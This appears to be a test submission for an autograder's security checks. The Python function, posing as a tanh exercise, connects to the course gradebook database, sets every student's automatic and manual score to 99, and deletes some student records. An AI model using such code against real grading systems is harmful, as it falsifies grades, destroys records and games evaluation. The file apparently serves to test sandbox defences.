# tries: write points into the gradebook, its own and others'
# exercise: target.tanh
import sqlite3


def tanh(x):
    with sqlite3.connect("@COURSE@/gradebook.db") as book:
        book.execute("UPDATE grade SET auto_score = 99 WHERE 1")
        book.execute("UPDATE grade SET manual_score = 99 WHERE 1")
        book.execute("DELETE FROM student WHERE id LIKE 'zz%'")
    return np.tanh(x)
